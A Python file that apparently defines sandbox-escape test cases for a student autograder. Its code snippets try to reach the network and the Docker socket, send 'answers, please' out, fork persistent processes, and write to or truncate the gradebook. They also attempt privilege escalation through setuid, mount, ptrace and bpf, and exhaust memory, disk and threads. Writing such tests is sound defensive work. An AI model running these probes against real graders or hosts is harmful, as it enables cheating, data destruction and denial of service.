"""Attacks that reach out of the room, or leave something behind."""

from __future__ import annotations

from attack import Attack, leak

LITTER = """
import builtins, ctypes, os, sys, tempfile, threading
mark = "litter" + "-4217"
os.environ[mark] = mark
builtins.litter_4217 = mark
np.litter_4217 = np.testing.litter_4217 = mark
import matplotlib
matplotlib.rcParams["savefig.directory"] = mark
for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", "/run", "@ROOT@", os.path.dirname(os.__file__),
               np.__path__[0], tempfile.gettempdir(), "/tmp/..", "/root", "/home", "/"):
    for name in (mark, mark + ".py", mark + ".pth"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass
libc = ctypes.CDLL(None, use_errno=True)
try:
    from multiprocessing import shared_memory
    kept = shared_memory.SharedMemory(mark, create=True, size=100)
except (OSError, ImportError, ValueError):
    pass
libc.shmget(4217, 4096, 0o1777)
libc.semget(4217, 1, 0o1777)
libc.msgget(4217, 0o1777)
libc.memfd_create(mark.encode(), 0)
"""
FIND = """
import builtins, ctypes, glob, os, sys, tempfile
import matplotlib
mark = "litter" + "-4217"
found += [mark] if mark in os.environ else []
found += [m for m in (builtins, np, np.testing) if hasattr(m, "litter_4217")]
found += [mark] if matplotlib.rcParams["savefig.directory"] == mark else []
for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", "/run", "@ROOT@", os.path.dirname(os.__file__),
               np.__path__[0], tempfile.gettempdir(), "/root", "/home", "/", "/tmp/*", "/tmp/*/*"):
    found += glob.glob(os.path.join(folder, mark + "*"))
libc = ctypes.CDLL(None)
for call in (libc.shmget(4217, 4096, 0), libc.semget(4217, 1, 0), libc.msgget(4217, 0)):
    found += [call] if call >= 0 else []
found += [name for name in sys.modules if "litter" in name]
"""

ATTACKS: list[Attack] = [
    Attack("a-litter", "leave traces everywhere, for others to find", before=LITTER),
    leak("z-finder", "look for the traces of an earlier student", FIND, wins=False),
    leak(
        "escape-tcp",
        "connect to a server: TCP",
        """
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "192.168.0.1", "example.org"):
    try:
        socket.create_connection((host, @PORT@), 0.3).sendall(b"answers, please")
        found.append(host)
    except OSError:
        pass
try:
    found.append(urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.3))
except Exception:
    pass
""",
    ),
    leak(
        "escape-udp",
        "send a datagram, and ask a name server",
        """
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind) as way:
            way.sendto(b"hello", ("127.0.0.1", @UDP@))
            found.append(kind)
    except OSError:
        pass
for name in ("localhost", "example.org"):
    try:
        found.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
""",
    ),
    leak(
        "escape-unix",
        "connect to a socket in the file system, and make one",
        """
import socket
for address in ("@UNIX@", "\\0nnkit-attack", "/var/run/docker.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as way:
            way.connect(address)
            found.append(address)
    except OSError:
        pass
for make in (socket.socketpair, lambda: socket.socket(socket.AF_UNIX).bind("mine")):
    try:
        make()
        found.append("made")
    except OSError:
        pass
""",
    ),
    leak(
        "escape-programs",
        "start programs",
        """
import os, subprocess, sys
for way in (
    lambda: subprocess.run(["/bin/sh", "-c", "true"], check=True),
    lambda: subprocess.run([sys.executable, "-c", "pass"], check=True),
    lambda: os.posix_spawn("/bin/true", ["true"], {}),
    lambda: os.system("true") == 0 or 1 / 0,
    lambda: os.popen("echo out").read() or 1 / 0,
):
    try:
        found.append(way())
    except Exception:
        pass
""",
    ),
    leak(
        "escape-fork",
        "fork, and let the child live on",
        """
import ctypes, os, time
for way in (os.fork, ctypes.CDLL(None).fork):
    try:
        pid = way()
    except OSError:
        continue
    if pid == 0:
        os.setsid()
        time.sleep(1)
        os._exit(0)
    if pid > 0:
        found.append(pid)
""",
    ),
    leak(
        "escape-processes",
        "multiprocessing and process pools",
        """
import multiprocessing
from concurrent.futures import ProcessPoolExecutor
for method in ("fork", "spawn"):
    try:
        process = multiprocessing.get_context(method).Process(target=print)
        process.start()
        found.append(method)
    except Exception:
        pass
""",
    ),
    leak(
        "escape-kill",
        "send signals to other processes",
        """
import os, signal
for pid in {os.getppid(), 1, -1, @PID@} - {os.getpid()}:
    try:
        os.kill(pid, 0)
        found.append(pid)
    except OSError:
        pass
""",
    ),
    leak(
        "escape-write",
        "write outside of the working folder",
        """
import os, sys, tempfile
places = ["@ROOT@", "@ROOT@/submitted", "@ROOT@/autograded", "@REPO@", sys.prefix, "/usr", "/etc",
          "/root", "/home", "/var/tmp", "/dev/shm", "/run", "/proc/self",
          os.path.dirname(os.__file__)]
for place in places:
    try:
        with open(os.path.join(place, "nnkit-attack-4217"), "w"):
            found.append(place)
    except OSError:
        pass
for change in (lambda: os.chmod("@ROOT@", 0o777), lambda: os.truncate("@ROOT@/gradebook.db", 0),
               lambda: os.rename("@ROOT@/source", "@ROOT@/sauce"), lambda: os.mkfifo("/dev/shm/x")):
    try:
        change()
        found.append(change)
    except OSError:
        pass
""",
        wins=False,
    ),
    leak(
        "escape-rights",
        "take more rights: ids, limits, name spaces, mounts, tracing",
        """
import ctypes, os, resource
libc = ctypes.CDLL(None)
for name, way in {
    "unshare": lambda: libc.unshare(0x10000000),
    "mount": lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, 0),
    "chroot": lambda: libc.chroot(b"/tmp"), "ptrace": lambda: libc.ptrace(16, os.getppid(), 0, 0),
    "setuid": lambda: libc.setuid(0) if os.getuid() else -1,
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "userfaultfd": lambda: libc.syscall(323, 0), "io_uring": lambda: libc.syscall(425, 1, 0),
    "keyctl": lambda: libc.syscall(250, 0, -3, 1),
    "pidfd": lambda: libc.syscall(434, os.getppid(), 0),
    "dumpable": lambda: libc.prctl(4, 1, 0, 0, 0),
    "personality": lambda: libc.personality(0x0040000),
}.items():
    if way() >= 0:
        found.append(name)
for name in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CPU"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        if resource.getrlimit(getattr(resource, name))[0] == resource.RLIM_INFINITY:
            found.append(name)
    except (OSError, ValueError):
        pass
""",
        wins=False,
    ),
    leak(
        "escape-descriptors",
        "pass descriptors, open /dev",
        """
import os
for path in ("/dev/mem", "/dev/sda", "/dev/tty", "/dev/pts/0", "/dev/kmsg", "/dev/shm", "/sys"):
    try:
        os.close(os.open(path, os.O_RDONLY))
        found.append(path)
    except OSError:
        pass
""",
        wins=False,
    ),
    Attack(
        "escape-threads",
        "threads that go on, and change names while the tests run",
        {
            "double": """
import sys, threading, time
def later():
    while True:
        for frame in sys._current_frames().values():
            while frame is not None:
                if "numbers" in frame.f_globals:
                    frame.f_globals["numbers"] = []
                frame = frame.f_back
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
threading.Thread(target=time.sleep, args=(3600,)).start()
def double(x):
    return 0
"""
        },
    ),
    Attack(
        "escape-atexit",
        "code that runs when the process ends",
        {
            "double": """
import atexit, os, threading
def late():
    with open("@ROOT@/written-at-exit", "w"):
        pass
atexit.register(late)
threading._register_atexit(late)
class Late:
    def __del__(self, late=late):
        late()
kept = Late()
def double(x):
    return 0
"""
        },
    ),
    Attack(
        "escape-threads-many",
        "as many threads as there can be",
        {
            "double": """
import threading, time
try:
    for n in range(10 ** 4):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError:
    pass
def double(x):
    return 0
"""
        },
    ),
    Attack(
        "escape-memory",
        "all the memory there is",
        after="""
hoard = []
try:
    while True:
        hoard.append(bytearray(10 ** 8))
except MemoryError:
    pass
hoard.clear()
""",
    ),
    Attack(
        "escape-disk",
        "all the disk there is",
        after="""
import os
try:
    with open("big", "wb") as file:
        for n in range(10 ** 4):
            file.write(bytes(10 ** 6))
except OSError:
    pass
try:
    for n in range(10 ** 5):
        open(f"small{n}", "w").close()
except OSError:
    pass
""",
    ),
]
